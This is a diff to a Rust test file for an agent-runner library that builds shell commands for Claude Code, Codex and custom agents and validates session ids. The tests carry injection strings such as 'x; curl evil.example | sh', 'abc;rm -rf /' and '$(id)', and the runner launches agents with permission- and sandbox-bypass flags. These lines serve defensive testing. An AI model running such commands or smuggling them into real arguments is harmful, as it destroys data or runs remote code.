@@ -1,4 +1,6 @@
-use gatehouse_agent::{Executor, Role, invocation};
+use gatehouse_agent::{
+    Executor, Role, Session, SessionIdError, check_session_id, invocation, turn_invocation,
+};
 use insta::assert_snapshot;
 
 /// Where the runner writes the files, as the sandbox sees them.
@@ -6,6 +8,9 @@ const PROMPT: &str = "/in/.agent/prompt.md";
 const SYSTEM: &str = "/in/.agent/system.md";
 /// A path a user's workspace layout could produce: spaces and both kinds of quote.
 const AWKWARD: &str = "/in/.agent/it's \"the\" prompt $HOME.md";
+const TRANSCRIPT: &str = "/in/.agent/transcript.md";
+/// As Claude Code and Codex print them.
+const SESSION: &str = "40e7b02d-9a3c-4b5e-8f1a-2c6d7e8f9a0b";
 
 fn role(executor: Executor) -> Role {
     Role::new(executor)
@@ -67,4 +72,167 @@ fn command() {
     };
     assert_snapshot!(invocation(&role, PROMPT, Some(SYSTEM)), @r#"my-agent '--prompt=/in/.agent/prompt.md' --system /in/.agent/system.md --model 'my model' '{"effort":"high"}' '$(rm -rf /)'"#);
     assert_snapshot!(invocation(&role, AWKWARD, None), @r#"my-agent "--prompt=/in/.agent/it's \"the\" prompt "'$HOME.md' --system '' --model 'my model' '{"effort":"high"}' '$(rm -rf /)'"#);
+}
+
+fn turn(role: &Role, system: Option<&str>, resume: Option<&str>) -> String {
+    let session = Session {
+        resume,
+        transcript_file: Some(TRANSCRIPT),
+    };
+    turn_invocation(role, PROMPT, system, session).expect("a valid session id")
+}
+
+#[test]
+fn a_turn_without_a_session_is_the_node_invocation() {
+    let roles = [
+        Role {
+            model: Some("m".to_owned()),
+            ..role(Executor::ClaudeCode)
+        },
+        role(Executor::Codex),
+        Role {
+            command: ["my-agent", "{prompt_file}", "{system_file}"]
+                .map(String::from)
+                .into(),
+            ..role(Executor::Command)
+        },
+    ];
+    for role in &roles {
+        for system in [None, Some(SYSTEM)] {
+            assert_eq!(
+                turn_invocation(role, PROMPT, system, Session::default()),
+                Ok(invocation(role, PROMPT, system)),
+                "{role:?}"
+            );
+        }
+    }
+}
+
+#[test]
+fn claude_code_turn_resumes_the_session_and_keeps_the_system_text() {
+    let full = Role {
+        model: Some("claude-sonnet-4-5".to_owned()),
+        args: vec!["--max-turns".to_owned(), "40".to_owned()],
+        ..role(Executor::ClaudeCode)
+    };
+    assert_snapshot!(turn(&full, Some(SYSTEM), Some(SESSION)), @r#"claude -p --output-format stream-json --verbose --resume 40e7b02d-9a3c-4b5e-8f1a-2c6d7e8f9a0b --model claude-sonnet-4-5 --append-system-prompt "$(cat /in/.agent/system.md)" --permission-mode bypassPermissions --max-turns 40 < /in/.agent/prompt.md"#);
+    assert_snapshot!(turn(&role(Executor::ClaudeCode), None, None), @"claude -p --output-format stream-json --verbose --permission-mode bypassPermissions < /in/.agent/prompt.md");
+}
+
+#[test]
+fn codex_turn_resumes_after_the_exec_options_without_the_system_text() {
+    let full = Role {
+        model: Some("gpt-5-codex".to_owned()),
+        args: vec![
+            "-c".to_owned(),
+            "model_reasoning_effort=\"high\"".to_owned(),
+        ],
+        ..role(Executor::Codex)
+    };
+    assert_snapshot!(turn(&full, Some(SYSTEM), Some(SESSION)), @r#"codex exec --json --model gpt-5-codex --skip-git-repo-check --dangerously-bypass-approvals-and-sandbox -c 'model_reasoning_effort="high"' resume 40e7b02d-9a3c-4b5e-8f1a-2c6d7e8f9a0b - < /in/.agent/prompt.md"#);
+    // A first turn sends the system text, as a node does.
+    assert_snapshot!(turn(&full, Some(SYSTEM), None), @r#"{ cat /in/.agent/system.md; printf '\n\n'; cat /in/.agent/prompt.md; } | codex exec --json --model gpt-5-codex --skip-git-repo-check --dangerously-bypass-approvals-and-sandbox -c 'model_reasoning_effort="high"' -"#);
+}
+
+#[test]
+fn command_turn_gets_the_transcript_file_and_no_session() {
+    let role = Role {
+        command: [
+            "my-agent",
+            "--transcript={transcript_file}",
+            "{prompt_file}",
+        ]
+        .map(String::from)
+        .into(),
+        ..role(Executor::Command)
+    };
+    assert_eq!(
+        role.check(),
+        Ok(()),
+        "{{transcript_file}} is a known placeholder"
+    );
+    assert_snapshot!(turn(&role, None, Some(SESSION)), @"my-agent '--transcript=/in/.agent/transcript.md' /in/.agent/prompt.md");
+    let awkward = Session {
+        resume: None,
+        transcript_file: Some(AWKWARD),
+    };
+    assert_snapshot!(turn_invocation(&role, PROMPT, None, awkward).expect("no session"), @r#"my-agent "--transcript=/in/.agent/it's \"the\" prompt "'$HOME.md' /in/.agent/prompt.md"#);
+    // An SOP node has no conversation: the placeholder is empty, as {system_file} without
+    // system text is.
+    assert_snapshot!(invocation(&role, PROMPT, None), @"my-agent '--transcript=' /in/.agent/prompt.md");
+}
+
+#[test]
+fn session_ids_are_plain_words() {
+    for id in [
+        SESSION,
+        "thread_01",
+        "a",
+        "0199a213-81c0-7800-8aa1-bbab2a035a53",
+    ] {
+        assert_eq!(check_session_id(id), Ok(()), "{id}");
+    }
+    let long = "a".repeat(129);
+    assert_eq!(check_session_id(&"a".repeat(128)), Ok(()));
+    assert_eq!(
+        check_session_id(&long),
+        Err(SessionIdError::TooLong { len: 129 })
+    );
+    assert_eq!(check_session_id(""), Err(SessionIdError::Empty));
+    for (id, at) in [
+        ("--dangerously-skip-permissions", 0),
+        ("-x", 0),
+        ("abc def", 3),
+        ("abc;rm -rf /", 3),
+        ("$(id)", 0),
+        ("`id`", 0),
+        ("a'b", 1),
+        ("a\"b", 1),
+        ("a\nb", 1),
+        ("a/b", 1),
+        ("a.b", 1),
+        ("é", 0),
+        ("a\0b", 1),
+        ("<!channel>", 0),
+    ] {
+        assert_eq!(
+            check_session_id(id),
+            Err(SessionIdError::Malformed { at }),
+            "{id:?}"
+        );
+    }
+}
+
+#[test]
+fn a_turn_refuses_a_bad_session_id_for_every_executor() {
+    let bad = Session {
+        resume: Some("x; curl evil.example | sh"),
+        transcript_file: None,
+    };
+    let errors: Vec<String> = [Executor::ClaudeCode, Executor::Codex, Executor::Command]
+        .map(|executor| Role {
+            command: vec!["my-agent".to_owned()],
+            ..role(executor)
+        })
+        .iter()
+        .map(|role| {
+            let error = turn_invocation(role, PROMPT, None, bad).expect_err("refused");
+            error.to_string()
+        })
+        .collect();
+    assert_eq!(errors[0], errors[1]);
+    assert_eq!(errors[0], errors[2]);
+    assert_snapshot!(errors[0], @"the CLI reported a session id that is not letters, digits, `-` and `_` starting with a letter or digit (byte 1 is not allowed)");
+    let long = "a".repeat(500);
+    let error = turn_invocation(
+        &role(Executor::ClaudeCode),
+        PROMPT,
+        None,
+        Session {
+            resume: Some(&long),
+            transcript_file: None,
+        },
+    )
+    .expect_err("refused");
+    assert_snapshot!(error.to_string(), @"the CLI reported a session id of 500 bytes; ids are at most 128");
 }
